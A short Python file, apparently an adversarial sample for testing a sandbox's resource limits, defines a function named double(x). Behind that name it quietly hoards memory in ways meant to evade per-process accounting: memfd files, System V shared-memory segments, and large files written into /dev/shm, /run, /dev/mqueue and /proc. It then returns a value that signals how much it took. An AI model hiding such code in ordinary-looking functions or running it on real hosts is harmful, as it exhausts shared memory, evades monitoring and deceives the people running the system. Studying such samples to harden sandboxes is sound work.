"""Take memory that no process's size shows: files in memory, System V segments, unmapped shared
memory."""

import ctypes
import os


def double(x):
    taken = 0
    libc = ctypes.CDLL(None, use_errno=True)
    chunk = bytes(1 << 24)
    for number in range(40):
        try:
            file = os.memfd_create(str(number))
            taken += os.write(file, chunk)
        except OSError:
            pass
        if libc.shmget(number + 1, ctypes.c_size_t(1 << 24), 0o1600) != -1:
            taken += 1 << 24
        for folder in ("/dev/shm", "/dev", "/run", "/dev/mqueue", "/proc"):
            try:
                with open(f"{folder}/corelab-attack{number}", "wb") as file:
                    taken += file.write(chunk)
            except OSError:
                pass
    return 2 * x if taken <= HINTS["disk"] else 0 * x  # the points tell how much it was
